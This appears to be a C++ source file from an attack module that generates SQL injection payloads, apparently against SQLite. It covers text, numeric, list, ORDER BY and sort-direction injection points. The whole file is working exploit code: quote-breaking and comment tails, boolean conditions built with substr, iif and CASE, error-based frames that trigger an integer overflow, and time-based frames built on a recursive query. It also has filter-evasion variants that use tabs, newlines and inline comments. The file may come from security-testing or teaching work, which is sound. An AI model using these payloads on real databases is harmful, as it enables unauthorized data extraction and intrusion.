#include "core/attack/frame.h"

namespace parapet::attack {
namespace {

// The rows of the recursion cost about twenty steps each: far over what a lesson's query takes and
// far under what a server lets one do.
constexpr char kLong[] = "(WITH\tr(n)AS(VALUES(1)UNION\nALL\tSELECT\tn+1\tFROM\tr\tWHERE\tn<9000*(";
constexpr char kLongEnd[] = "))SELECT\tcount(*)FROM\tr)";

void append(std::vector<Frame>& frames, std::vector<Frame> more) {
    frames.insert(frames.end(), more.begin(), more.end());
}

}  // namespace

Frame Break::chained() const { return {open + "=0=(", chained_tail}; }

std::string Frame::around(std::string_view condition) const {
    return before + std::string(condition) + after;
}

Frame failing(std::string const& before, std::string const& after) {
    return {.before = before + "abs(-9223372036854775807-(",
            .after = "))" + after,
            .goes_through_when = false};
}

Frame lasting(std::string const& before, std::string const& after) {
    return {.before = before + kLong, .after = kLongEnd + after, .goes_through_when = false};
}

// Comments cut off what follows, placeholders too, whose values then fit nothing; so there are
// tails that leave the statement whole.
std::vector<Break> text_breaks(std::string const& nothing) {
    std::vector<Break> breaks;
    for (char const* close : {"'", "')", "'))", "''"}) {  // the last: only the first is doubled
        for (char const* tail : {"--", "/*-"}) breaks.emplace_back(nothing + close, tail);
    }
    breaks.emplace_back(nothing + "'", "\tWHERE\t'1'LIKE'1", ")+'");
    breaks.emplace_back(nothing + "''", "\tWHERE\t'1'LIKE'1", ")+'");
    breaks.emplace_back(nothing + "')", "\tWHERE('1'LIKE'1", ")*('1");
    return breaks;
}

std::vector<Frame> text_frames(std::vector<std::string> const& bases, std::string const& nothing) {
    std::vector<Frame> frames;
    for (std::string const& base : bases) frames.push_back({base + "'||substr(7,1,(", ")=0)||'"});
    for (Break const& each : text_breaks(nothing)) frames.push_back(each.chained());
    // A statement prepared with values wants its placeholders back.
    frames.push_back({nothing + "'=0=(", ")*(1+0*coalesce(?,0))--"});
    frames.push_back({nothing + "'=0=(", ")*(1+0*coalesce(?,0)*coalesce(?,0))--"});
    frames.push_back({nothing + "'=0=(", std::string(")\0", 2)});
    // Inside a comment, beside a bound value that no row has.
    frames.push_back({nothing + "*/OR(", ")/*"});
    frames.push_back({nothing + "*/WHERE(", ")*(1+0*coalesce(?,0))--"});
    frames.push_back({nothing + "\nOR(", ")--"});
    frames.push_back({.before = nothing + "'/**/LIKE/**/0/**/LIKE(",
                      .after = ")--",
                      .comparing = Comparing::Between});
    append(frames, text_error_frames(bases.empty() ? nothing : bases.front()));
    frames.push_back(failing(nothing + "'=", "--"));
    frames.push_back(failing(nothing + "')=", "/*-"));
    frames.push_back(lasting(nothing + "'=", "--"));
    return frames;
}

std::vector<Frame> text_error_frames(std::string const& base) {
    return {failing(base + "'||substr(7,1,0*", ")||'"), lasting(base + "'||substr(7,1,0*", ")||'")};
}

std::vector<Frame> number_frames(std::string const& n) {
    // n or 0; n or far over it. Then the same where the rest of the statement fails without it,
    // and for filters that look at the first line only.
    auto const far_over = [&n](std::string const& before, std::string const& after) {
        return Frame{.before = n + before, .after = after, .goes_through_when = false};
    };
    std::vector<Frame> frames = {
        {n + "*(", ")+0"},           far_over("+100000*(", ")+0"),
        {n + "*(", ")/*-"},          far_over("+100000*(", ")/*-"),
        {n + "*(", ")--"},           {n + "*(", std::string(")\0", 2)},
        {n + "\n*(", ")+0\n-0"},     far_over("\n+100000*(", ")"),
        {n + "\n*(", ")--"},         {n + "'*(", ")*'1"},  // a number in quotes
        Break("0)", "--").chained(), Break("0)", "/*-").chained(),
        {n + "*/OR(", ")/*"},  // inside a comment, beside a bound value that no row has
    };
    append(frames, number_error_frames(n));
    return frames;
}

std::vector<Frame> number_error_frames(std::string const& n) {
    return {failing(n + "+0*", ""), failing(n + "+0*", "/*-"), lasting(n + "+0*", ""),
            lasting(n + "+0*", "/*-"), failing(n + "'||substr(7,1,0*", ")||'")};
}

std::vector<Break> list_breaks() {
    std::vector<Break> breaks;
    for (char const* close : {"0)", "0))", "0')", "0'))", "0\")"}) {
        for (char const* tail : {"--", "/*-"}) breaks.emplace_back(close, tail);
    }
    breaks.emplace_back("0)", "\tWHERE\t1\tIN(1", ")*(1");
    return breaks;
}

std::vector<Frame> list_frames(std::string const& item) {
    std::vector<Frame> frames = {
        {item + "*(", ")+0"},
        {item + "'*(", ")*'1"},
        {item + "\n*(", ")+0\n-0"},
        {item + "'||substr(7,1,(", ")=0)||'"},
        {"\"'||(" + item + "*(", "))||'\""},  // where it must be JSON, and is then a text
    };
    for (Break const& each : list_breaks()) frames.push_back(each.chained());
    frames.push_back(failing(item + "+0*", ""));
    frames.push_back(lasting(item + "+0*", ""));
    return frames;
}

std::vector<Frame> order_frames(std::vector<std::string> const& columns) {
    std::vector<Frame> frames;
    // Rising when the condition is 0, falling when it is 1; it begins and ends with the column.
    for (std::string const& c : columns) frames.push_back({c + "*(1-2*(", "))*" + c});
    std::string const& c = columns.front();
    frames.push_back({c + "\n*(1-2*(", "))*\n" + c});
    frames.push_back({c + "*(1-2*(", "))/*-"});
    for (char const* quotes : {"\"\"", "``", "[]"}) {
        std::string const open(1, quotes[0]);
        std::string const close(1, quotes[1]);
        frames.push_back({c + close + "*(1-2*(", "))*" + open + c});
    }
    frames.push_back({"iif((", "),rowid,-rowid)"});
    frames.push_back({"CASE\tWHEN(", ")THEN\trowid\tELSE-rowid\tEND"});
    frames.push_back(failing(c + ",", ""));
    frames.push_back(failing(c + "\",", "--"));
    frames.push_back(lasting(c + ",", ""));
    return frames;
}

std::vector<Frame> direction_frames(std::string const& column) {
    // Some begin with a direction, some end with one, for checks that look at one end only.
    return {{"*(1-2*(", ")) asc"},       {"," + column + "*(1-2*(", "))"},
            {"asc\tLIMIT\t1*(", ")/*-"}, {"desc\tLIMIT\t1*(", ")--"},
            failing("asc,", " desc"),    failing("DESC,", " ASC"),
            failing("desc\n,", ""),      failing(",", "--"),
            lasting("asc,", "")};
}

}  // namespace parapet::attack
